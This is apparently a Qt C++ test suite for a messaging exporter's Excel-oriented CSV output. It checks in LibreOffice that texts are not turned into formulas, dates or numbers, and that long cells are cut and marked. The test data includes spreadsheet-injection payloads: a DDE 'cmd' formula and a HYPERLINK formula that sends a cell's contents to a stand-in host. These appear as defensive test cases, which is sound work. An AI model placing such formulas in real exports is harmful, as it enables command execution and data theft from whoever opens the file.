// The truth in spreadsheets: a CSV file for Excel, opened by a real spreadsheet program as a double click
// would, shows every text as the service sent it, with at most an apostrophe before it.

#include "simulator/server.h"
#include "support/celltruth.h"
#include "support/csvrows.h"
#include "support/exporter.h"
#include "support/exportrun.h"
#include "support/libreoffice.h"

#include <QHash>
#include <QJsonDocument>
#include <QJsonObject>
#include <QTest>

#include <memory>

using namespace leadway;
using namespace leadway::test;
using leadway::simulator::Behaviour;
using leadway::simulator::Expected;
using leadway::simulator::Generator;
using leadway::simulator::Scenario;
using leadway::simulator::Server;

namespace
{

constexpr int kEnglish = 1033;
constexpr int kSpanish = 3082;
constexpr int kMexican = 2058;

// Of a message that the test wrote itself.
QString writtenId(int number)
{
    return text("written%1").arg(number, 13, 10, QLatin1Char('0'));
}

QByteArray elementWith(int number, const QString& body)
{
    const QJsonObject message = {
        {text("id"), writtenId(number)},
        {text("messageType"), text("TYPE_SMS")},
        {text("locationId"), text(simulator::kDemoLocation)},
        {text("contactId"), text("contact0000000000001")},
        {text("conversationId"), text("conversation00000001")},
        {text("body"), body},
    };
    return QJsonDocument(message).toJson(QJsonDocument::Compact);
}

} // namespace

class TestSpreadsheet : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void initTestCase();
    void withoutGuardsTheFileIsDamaged_data();
    void withoutGuardsTheFileIsDamaged();
    void everyTextIsShownAsItWasSent_data();
    void everyTextIsShownAsItWasSent();
    void noPieceOfATextIsAFormulaUnderAnotherSeparator_data();
    void noPieceOfATextIsAFormulaUnderAnotherSeparator();
    void aLongTextIsCutMarkedAndCounted();

private:
    using Field = std::string Expected::*;

    QHash<QString, const Cell*> bodiesById(const Sheet& sheet) const;

    std::unique_ptr<Household> m_household;
    std::unique_ptr<LibreOffice> m_office;
    std::unique_ptr<Server> m_server;
    QList<QByteArray> m_header; ///< the English one, which tells where a column is
};

void TestSpreadsheet::initTestCase()
{
    m_household = std::make_unique<Household>();
    m_office = std::make_unique<LibreOffice>(*m_household);
    QVERIFY2(m_office->problem().isEmpty(), m_office->problem().constData());
    Scenario scenario = Scenario::awkward(5, 3000);
    scenario.longBodyShare = 0;
    // No line of an e-mail is longer than 16,367 characters: LibreOffice breaks such a line in two where a
    // cell has several.
    scenario.htmlBytes = 150;
    Behaviour behaviour;
    int number = 0;
    for (const char* const body : treacherousTexts()) {
        behaviour.extraElements.push_back(elementWith(number++, text(body)));
    }
    m_server = std::make_unique<Server>(scenario, behaviour);
    QVERIFY(m_server->start());
    const Outcome outcome = Exporter(*m_household, m_server->baseUrl()).run(toFile());
    QVERIFY2(outcome.exitCode == Complete, outcome.told().constData());
    m_header = parseCsv(m_household->read(text(kOutput)), ',').header;
    QVERIFY(m_header.contains("Message") && m_header.contains("Message id"));
}

// The cells of the texts above.
QHash<QString, const Cell*> TestSpreadsheet::bodiesById(const Sheet& sheet) const
{
    QHash<QString, const Cell*> cells;
    for (const QList<Cell>& row : sheet) {
        const QString id = row.value(m_header.indexOf("Message id")).text;
        cells.insert(id, &row[m_header.indexOf("Message")]);
    }
    return cells;
}

void TestSpreadsheet::withoutGuardsTheFileIsDamaged_data()
{
    QTest::addColumn<char>("separator");
    QTest::addColumn<int>("language");
    QTest::newRow("English") << ',' << kEnglish;
    QTest::newRow("Spanish") << ';' << kSpanish;
}

void TestSpreadsheet::withoutGuardsTheFileIsDamaged()
{
    QFETCH(const char, separator);
    QFETCH(const int, language);
    ExportRun run(m_server->baseUrl());
    run.format.format = Format::CsvExcel;
    run.format.separator = separator;
    run.format.guard = false;
    run.run();
    m_household->write(text("unguarded.csv"), run.fileContent());
    const auto sheet = m_office->opened(text("unguarded.csv"), {separator, language});
    QVERIFY(sheet && sheet->size() > 3000);
    const auto cells = bodiesById(*sheet);
    const auto cellOf = [&](const char* body) {
        const auto texts = treacherousTexts();
        const auto found = std::find_if(texts.begin(), texts.end(),
                                        [body](const char* one) { return qstrcmp(one, body) == 0; });
        const Cell* const cell = cells.value(writtenId(static_cast<int>(found - texts.begin())));
        return cell ? *cell : Cell();
    };
    // Else the next test would prove nothing.
    QVERIFY(cellOf("=1+1").isFormula);
    QCOMPARE(cellOf("=1+1").text, text("2"));
    QCOMPARE(cellOf("+34600111222").text, text("34600111222"));
    QCOMPARE(cellOf("00123").text, text("123"));
    QCOMPARE(cellOf("3/4").type, QByteArray("date"));
    QCOMPARE(cellOf("1:30").type, QByteArray("time"));
    QCOMPARE(cellOf("5%").type, QByteArray("percentage"));
    QVERIFY(cellOf("123456789012345678").text.contains(text("E+")));
    QCOMPARE(cellOf(language == kEnglish ? "1,234.56" : "1.234,56").type, QByteArray("float"));
    int damaged = 0;
    for (const char* const body : treacherousTexts()) {
        damaged += damage(cellOf(body), tidied(text(body))).isEmpty() ? 0 : 1;
    }
    qInfo("%d of %d texts are damaged without guards", damaged, static_cast<int>(treacherousTexts().size()));
    QVERIFY(damaged > 50);
}

void TestSpreadsheet::everyTextIsShownAsItWasSent_data()
{
    QTest::addColumn<QString>("system");
    QTest::addColumn<char>("separator");
    QTest::addColumn<int>("language");
    QTest::newRow("English") << text("en_US.UTF-8") << ',' << kEnglish;
    QTest::newRow("Spanish of Spain") << text("es_ES.UTF-8") << ';' << kSpanish;
    QTest::newRow("Spanish of Mexico") << text("es_MX.UTF-8") << ',' << kMexican;
    // A file goes from one computer to another.
    QTest::newRow("from Spain, opened in the USA") << text("es_ES.UTF-8") << ';' << kEnglish;
    QTest::newRow("from the USA, opened in Spain") << text("en_US.UTF-8") << ',' << kSpanish;
}

void TestSpreadsheet::everyTextIsShownAsItWasSent()
{
    QFETCH(const QString, system);
    QFETCH(const char, separator);
    QFETCH(const int, language);
    Exporter exporter(*m_household, m_server->baseUrl());
    exporter.environment.insert(text("LANG"), system);
    const Outcome outcome = exporter.run({text("--output"), text("guarded.csv")});
    QVERIFY2(outcome.exitCode == Complete, outcome.told().constData());
    const auto sheet = m_office->opened(text("guarded.csv"), {separator, language});
    const Generator& generator = m_server->generator();
    QVERIFY(sheet);
    QCOMPARE(sheet->size(), 1 + generator.count() + static_cast<qint64>(treacherousTexts().size()));

    QHash<QString, const QList<Cell>*> rows;
    for (const QList<Cell>& row : *sheet) {
        rows.insert(row.value(m_header.indexOf("Message id")).text, &row);
    }
    QList<QByteArray> wrong;
    const auto check = [&](const QString& id, const char* column, const QString& sent) {
        const QList<Cell>* const row = rows.value(id);
        const QByteArray found =
            row ? damage(row->value(m_header.indexOf(column)), tidied(sent)) : "missing: " + id.toUtf8();
        if (!found.isEmpty()) {
            wrong.append(QByteArray(column) + ": " + found);
        }
    };
    const QList<QPair<const char*, Field>> fields = {
        {"Subject", &Expected::subject},
        {"From", &Expected::from},
        {"To", &Expected::to},
        {"Cc", &Expected::cc},
        {"Bcc", &Expected::bcc},
        {"Error", &Expected::error},
        {"Page", &Expected::pageName},
        {"Contact id", &Expected::contactId},
        {"Conversation id", &Expected::conversationId},
        {"User id", &Expected::userId},
        {"Alternative id", &Expected::altId},
        {"Thread id", &Expected::threadId},
        {"Type code", &Expected::messageType},
    };
    for (qint64 index = 0; index < generator.count(); ++index) {
        const Expected expected = generator.expected(index);
        for (const auto& [column, field] : fields) {
            check(QString::fromStdString(expected.id), column, QString::fromStdString(expected.*field));
        }
        check(QString::fromStdString(expected.id), "Message", shownBody(expected));
    }
    int number = 0;
    for (const char* const body : treacherousTexts()) {
        check(writtenId(number++), "Message", text(body));
    }
    const QByteArray list = QByteArray::number(wrong.size()) + " cells:\n" + wrong.mid(0, 60).join('\n');
    QVERIFY2(wrong.isEmpty(), list.constData());
}

void TestSpreadsheet::noPieceOfATextIsAFormulaUnderAnotherSeparator_data()
{
    QTest::addColumn<char>("separator");
    QTest::addColumn<char>("openedWith");
    QTest::newRow("semicolons opened as commas") << ';' << ',';
    QTest::newRow("commas opened as semicolons") << ',' << ';';
    QTest::newRow("semicolons opened as tabs") << ';' << '\t';
    QTest::newRow("commas opened as tabs") << ',' << '\t';
}

// Under another separator the quotes of most cells are not at the beginning of one, and then they do not hold
// their texts together. Only what begins with "=" shows here: to LibreOffice, a plus, a minus and an at sign
// in a file begin no formula.
void TestSpreadsheet::noPieceOfATextIsAFormulaUnderAnotherSeparator()
{
    QFETCH(const char, separator);
    QFETCH(const char, openedWith);
    Scenario scenario;
    scenario.messages = 1;
    Behaviour behaviour;
    int number = 0;
    for (const char* const before :
         {"", "hola,", "hola;", "hola\t", "hola\n", "hola\r", "hola, ", "dijo \"hola\",", "hola,\"",
          "hola;\"", "hola,\"\"", "\",", "\";", "\"\n", "hola,'", "a,b;c\td\n"}) {
        for (const char* const piece : {"=1+1", "=HYPERLINK(\"http://a.example/\"&A1,\"x\")",
                                        "=cmd|'/C calc'!A0", "=1+1,=2+2;=3+3\n=4+4"}) {
            behaviour.extraElements.push_back(elementWith(number++, text(before) + text(piece)));
        }
    }
    Server server(scenario, behaviour);
    QVERIFY(server.start());
    const auto formulas = [&](bool guard) {
        ExportRun run(server.baseUrl());
        run.format.format = Format::CsvExcel;
        run.format.separator = separator;
        run.format.guard = guard;
        run.run();
        m_household->write(text("other.csv"), run.fileContent());
        qsizetype count = 0;
        const Sheet sheet = m_office->opened(text("other.csv"), {openedWith, kEnglish}).value_or(Sheet());
        for (const QList<Cell>& row : sheet) {
            count += std::count_if(row.begin(), row.end(), [](const Cell& cell) { return cell.isFormula; });
        }
        return sheet.size() > number ? count : -1;
    };
    const qsizetype without = formulas(false);
    QVERIFY2(without > 20, QByteArray::number(without).constData()); // else the next line would prove nothing
    QCOMPARE(formulas(true), 0);
}

void TestSpreadsheet::aLongTextIsCutMarkedAndCounted()
{
    constexpr qsizetype mostUnits = 32'767;
    Scenario scenario;
    scenario.messages = 1;
    scenario.undatedShare = 0;
    Behaviour behaviour;
    const QString fits = text("ñ").repeated(mostUnits);
    const QString isTooLong = text("=") + text("x").repeated(40'000);
    // A pair of surrogates stands where the text has to be cut.
    const QString isEmoji = text("😀").repeated(20'000);
    behaviour.extraElements = {elementWith(0, fits), elementWith(1, isTooLong), elementWith(2, isEmoji)};
    Server server(scenario, behaviour);
    QVERIFY(server.start());
    const Outcome outcome =
        Exporter(*m_household, server.baseUrl())
            .run({text("--output"), text("long.csv"), text("--report"), text("long.json")});
    QVERIFY2(outcome.exitCode == Complete, outcome.told().constData());
    QVERIFY2(outcome.err.contains("2 texts were shortened to what a cell holds; JSON has them whole."),
             outcome.told().constData());
    const QJsonObject report = QJsonDocument::fromJson(m_household->read(text("long.json"))).object();
    QCOMPARE(report.value(text("cutCells")).toInt(), 2);

    const auto sheet = m_office->opened(text("long.csv"), {});
    QVERIFY(sheet);
    const auto cells = bodiesById(*sheet);
    const auto shown = [&](int number) {
        const Cell* const cell = cells.value(writtenId(number));
        return cell ? cell->text : QString();
    };
    QVERIFY(shown(0) == fits);
    const QString mark = text("… [cut]");
    for (const auto& [number, sent] : {qMakePair(1, QLatin1Char('\'') + isTooLong), qMakePair(2, isEmoji)}) {
        const QString cut = shown(number);
        QVERIFY(cut.size() <= mostUnits && cut.size() >= mostUnits - 1);
        QVERIFY2(cut.endsWith(mark), cut.right(20).toUtf8().constData());
        QVERIFY(sent.startsWith(cut.chopped(mark.size())));
        QVERIFY(!cut.contains(QChar(QChar::ReplacementCharacter)));
    }
}

QTEST_GUILESS_MAIN(TestSpreadsheet)
#include "tst_spreadsheet.moc"
